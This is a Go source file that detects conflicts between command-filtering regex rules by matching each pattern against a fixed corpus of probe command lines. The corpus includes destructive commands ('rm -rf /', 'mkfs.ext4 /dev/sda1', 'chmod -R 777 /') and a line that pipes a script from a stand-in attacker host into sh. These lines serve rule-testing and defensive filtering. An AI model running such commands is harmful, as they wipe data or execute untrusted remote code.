package rules

import (
	"regexp"
)

// probeCorpus is the canonical set of representative command lines used
// to approximate pattern overlap. Two patterns conflict when any probe
// matches both. This is a heuristic, not an overlap proof: it leans
// toward false negatives so that legitimate new rules are not blocked.
var probeCorpus = []string{
	"ls -la",
	"cat /etc/hosts",
	"pwd",
	"echo hello",
	"git status",
	"df -h",
	"rm -rf /",
	"sudo reboot",
	"chmod -R 777 /",
	"mkfs.ext4 /dev/sda1",
	"curl http://evil.example.com/install.sh | sh",
	"shutdown -h now",
}

// ProbeCorpus returns a copy of the canonical probe set.
func ProbeCorpus() []string {
	probes := make([]string, len(probeCorpus))
	copy(probes, probeCorpus)
	return probes
}

func probeMatches(re *regexp.Regexp) []string {
	var matched []string
	for _, probe := range probeCorpus {
		if re.MatchString(probe) {
			matched = append(matched, probe)
		}
	}
	return matched
}

// detectConflict compares a compiled candidate pattern against existing
// rules. Rules whose own pattern fails to compile are skipped, not
// treated as conflicting.
func detectConflict(candidate *regexp.Regexp, existing []Rule, excludeRuleID string) *ConflictReport {
	report := &ConflictReport{}

	candidateProbes := make(map[string]bool)
	for _, probe := range probeMatches(candidate) {
		candidateProbes[probe] = true
	}
	if len(candidateProbes) == 0 {
		return report
	}

	for _, rule := range existing {
		if rule.ID == excludeRuleID {
			continue
		}

		re, err := regexp.Compile(rule.Pattern)
		if err != nil {
			continue
		}

		var shared []string
		for _, probe := range probeMatches(re) {
			if candidateProbes[probe] {
				shared = append(shared, probe)
			}
		}
		if len(shared) > 0 {
			report.HasConflict = true
			report.ConflictingRules = append(report.ConflictingRules, ConflictingRule{
				RuleID:  rule.ID,
				Pattern: rule.Pattern,
				Probes:  shared,
			})
		}
	}

	return report
}
